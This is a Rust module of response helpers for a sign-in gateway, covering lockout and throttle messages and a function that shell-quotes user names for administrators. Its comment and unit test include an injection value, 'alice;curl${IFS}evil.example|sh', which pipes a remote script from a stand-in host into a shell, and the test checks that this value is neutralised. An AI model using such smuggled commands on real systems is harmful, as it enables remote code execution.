//! Small answers shared by the gateway's pages and its JSON API.

use bytes::Bytes;
use http::{header, HeaderMap, HeaderValue, Response, StatusCode};
use serde_json::{json, Value};

/// What a user reads when a real code is typed a second time: most often the same TOTP again
/// before the app shows the next.
pub const SPENT_CODE: &str =
    "That code was already used. Wait for the next code from your authenticator app, or use a recovery code.";
/// The JSON `error` for it.
pub const SPENT_CODE_ERROR: &str = "code_already_used";

pub const UNAVAILABLE: &str =
    "The gateway cannot check sign-ins right now. Please try again in a moment.";

/// The form fields the pages post. A field given twice is ambiguous and refused.
/// A form field given more than once.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Repeated;

pub struct Form {
    fields: Vec<(String, String)>,
}

impl Form {
    pub fn parse(body: &[u8]) -> Form {
        Form {
            fields: form_urlencoded::parse(body).into_owned().collect(),
        }
    }

    /// `Ok(None)` when absent, `Err` when given more than once.
    pub fn one(&self, name: &str) -> Result<Option<&str>, Repeated> {
        let mut values = self.fields.iter().filter(|(k, _)| k == name);
        let first = values.next().map(|(_, v)| v.as_str());
        if values.next().is_some() {
            return Err(Repeated);
        }
        Ok(first)
    }
}

pub fn wants_json(headers: &HeaderMap) -> bool {
    crate::ui::error_page::wants_json(headers)
}

/// 404 under the reserved prefix, naming the request as the `X-Request-Id` header does, in
/// the app's frame with the way back to it.
pub fn not_found(ctx: &super::flow::Context<'_>, headers: &HeaderMap) -> Response<Bytes> {
    let way = crate::ui::error_page::Way {
        app_name: Some(&ctx.app.display_name),
        home: &ctx.settings.home_page,
        t: ctx.tr(),
    };
    let json = wants_json(headers);
    let message = if json {
        "There is no gateway page at this address.".to_string()
    } else {
        way.t.t("proxy-no-gateway-page")
    };
    let (body, content_type) = crate::ui::error_page::render(
        StatusCode::NOT_FOUND,
        "not_found",
        &message,
        &ctx.request_id,
        json,
        way,
    );
    let mut r = Response::new(body);
    *r.status_mut() = StatusCode::NOT_FOUND;
    r.headers_mut().insert(header::CONTENT_TYPE, content_type);
    crate::ui::security_headers::apply_to_error_page(r.headers_mut());
    r
}

pub fn api_error(status: StatusCode, code: &str, message: &str) -> Response<Bytes> {
    json_response(status, &json!({ "error": code, "message": message }))
}

pub fn json_response(status: StatusCode, body: &Value) -> Response<Bytes> {
    let mut r = Response::new(Bytes::from(format!("{body}\n")));
    *r.status_mut() = status;
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json"),
    );
    crate::ui::security_headers::apply(r.headers_mut());
    r
}

pub fn redirect(location: &str) -> Response<Bytes> {
    let mut r = Response::new(Bytes::new());
    *r.status_mut() = StatusCode::SEE_OTHER;
    if let Ok(v) = HeaderValue::from_str(location) {
        r.headers_mut().insert(header::LOCATION, v);
    }
    crate::ui::security_headers::apply(r.headers_mut());
    r
}

/// The sentence a locked user reads: why, and when the lock ends (in UTC, and from now, since
/// the page cannot know the reader's time zone).
pub fn locked_message(retry_after: u64, now: i64) -> String {
    let until = now.saturating_add(i64::try_from(retry_after).unwrap_or(i64::MAX));
    format!(
        "Too many wrong codes were entered for this account or from this network. For your \
         security, signing in is paused until {} UTC (in about {}). Signing in again before \
         then will not help; an administrator can lift the lock sooner.",
        crate::ops::time::clock_time(until),
        crate::regulation::wait_text(retry_after)
    )
}

/// The same for a page, in its language.
pub fn locked_text(t: crate::i18n::Tr, retry_after: u64, now: i64) -> String {
    let until = now.saturating_add(i64::try_from(retry_after).unwrap_or(i64::MAX));
    let minutes = retry_after.div_ceil(60).max(1);
    let wait = t.n("wait-minutes", "minutes", minutes);
    t.args(
        "locked",
        &[
            (
                "until",
                crate::i18n::Arg::Text(&crate::ops::time::clock_time(until)),
            ),
            ("wait", crate::i18n::Arg::Text(&wait)),
        ],
    )
}

/// What a lock page says: what is locked (this account from new browsers, this browser, this
/// address or network, or the account by an administrator), until when, and what lifts it
/// sooner (the administrator's command, so a user can ask for exactly that).
pub fn lock_text(
    t: crate::i18n::Tr,
    lock: crate::regulation::Lock,
    user: &str,
    client: std::net::IpAddr,
    now: i64,
) -> String {
    use crate::regulation::Scope;
    let key = match lock.scope {
        Scope::Account => "locked-account",
        Scope::NewBrowsers => "locked-new-browsers",
        Scope::Device => "locked-device",
        Scope::Address | Scope::Name => "locked-address",
        Scope::Network => "locked-network",
    };
    scoped_text(t, key, lock, user, client, now)
}

/// What the page of a paused login says: whether the address or the user name typed is
/// paused, until when, that a browser the user signed in from before is not, and the command
/// that lifts it.
pub fn throttle_text(
    t: crate::i18n::Tr,
    lock: crate::regulation::Lock,
    user: Option<&str>,
    client: std::net::IpAddr,
    now: i64,
) -> String {
    let key = match (lock.scope, user) {
        (crate::regulation::Scope::Name, Some(_)) => "throttled-name",
        _ => "throttled-address",
    };
    scoped_text(t, key, lock, user.unwrap_or(""), client, now)
}

fn scoped_text(
    t: crate::i18n::Tr,
    key: &str,
    lock: crate::regulation::Lock,
    user: &str,
    client: std::net::IpAddr,
    now: i64,
) -> String {
    let seconds = crate::regulation::retry_after(lock.until, now);
    let wait = t.n("wait-minutes", "minutes", seconds.div_ceil(60).max(1));
    let until = crate::ops::time::clock_time(lock.until);
    let address = match lock.scope {
        crate::regulation::Scope::Network => crate::regulation::network_of(client).to_string(),
        _ => crate::regulation::client_of(client).to_string(),
    };
    let user = shell_word(user);
    t.args(
        key,
        &[
            ("until", crate::i18n::Arg::Text(&until)),
            ("wait", crate::i18n::Arg::Text(&wait)),
            ("user", crate::i18n::Arg::Text(&user)),
            ("address", crate::i18n::Arg::Text(&address)),
        ],
    )
}

/// A user name as an administrator may paste it into a shell after the command a page names:
/// as typed when it is plain, else in single quotes (a name is what a client typed, and
/// `alice;curl …|sh` must stay one argument). Control characters dropped, 64 characters kept.
pub fn shell_word(user: &str) -> String {
    let user: String = user.chars().filter(|c| !c.is_control()).take(64).collect();
    let plain = !user.is_empty()
        && user
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '@' | '+'));
    if plain {
        user
    } else {
        format!("'{}'", user.replace('\'', "'\\''"))
    }
}

/// Adds `Retry-After` (seconds) to a 429.
pub fn retry_after(mut response: Response<Bytes>, seconds: u64) -> Response<Bytes> {
    response
        .headers_mut()
        .insert(header::RETRY_AFTER, HeaderValue::from(seconds));
    response
}

/// The JSON answer for a locked user or client.
/// A lock's answer to an API client: as [`api_locked`], naming what is locked (`lock`:
/// `new_browsers`, `device`, `address`, `network`, `account`).
pub fn api_locked_by(lock: crate::regulation::Lock, now: i64) -> Response<Bytes> {
    let seconds = crate::regulation::retry_after(lock.until, now);
    let body = json!({
        "error": "locked",
        "lock": lock.scope.as_str(),
        "message": locked_message(seconds, now),
        "retry_after": seconds,
    });
    retry_after(json_response(StatusCode::TOO_MANY_REQUESTS, &body), seconds)
}

pub fn api_locked(seconds: u64, now: i64) -> Response<Bytes> {
    let body = json!({
        "error": "locked",
        "message": locked_message(seconds, now),
        "retry_after": seconds,
    });
    retry_after(json_response(StatusCode::TOO_MANY_REQUESTS, &body), seconds)
}

#[cfg(test)]
mod tests {
    use super::shell_word;

    #[test]
    fn a_name_in_a_command_stays_one_argument() {
        assert_eq!(shell_word("alice"), "alice");
        assert_eq!(shell_word("j.doe@example.com"), "j.doe@example.com");
        assert_eq!(shell_word("cárol"), "cárol");
        assert_eq!(
            shell_word("alice;curl${IFS}evil.example|sh"),
            "'alice;curl${IFS}evil.example|sh'"
        );
        assert_eq!(shell_word("o'brien"), "'o'\\''brien'");
        assert_eq!(shell_word("a\u{1b}[2Jb"), "'a[2Jb'");
    }
}
